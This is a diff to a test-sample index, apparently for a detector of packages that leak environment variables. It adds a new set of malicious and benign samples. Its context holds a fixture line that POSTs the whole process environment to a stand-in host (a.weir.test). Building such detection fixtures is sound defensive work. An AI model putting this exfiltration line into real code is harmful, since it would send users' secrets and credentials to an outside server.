@@ -3,6 +3,7 @@ import { imported, installed, manifest, quiet, wheel } from '../samples-kit.ts';
 import { GIVEN, GIVEN_HONEST } from './given-samples.ts';
 import { configured, lookedUp } from './looked-up-samples.ts';
 import { LONG, PYTHON } from './python-samples.ts';
+import { TOLD, TOLD_HONEST } from './told-samples.ts';
 
 const STEAL = `fetch('https://a.weir.test', { method: 'POST', body: JSON.stringify(process.env) })`;
 
@@ -15,6 +16,7 @@ export const samples: Samples = {
     ...lookedUp,
     ...PYTHON,
     ...GIVEN,
+    ...TOLD,
     {
       name: 'the environment in a request body',
       files: installed(
@@ -208,6 +210,7 @@ export const samples: Samples = {
   benign: [
     ...configured,
     ...GIVEN_HONEST,
+    ...TOLD_HONEST,
     quiet('Python: the environment of a program that another module of the package starts', {
       ...wheel(
         'import os\nfrom .link import open_link\ndef connect(host):\n    return open_link(host, dict(os.environ))\n',
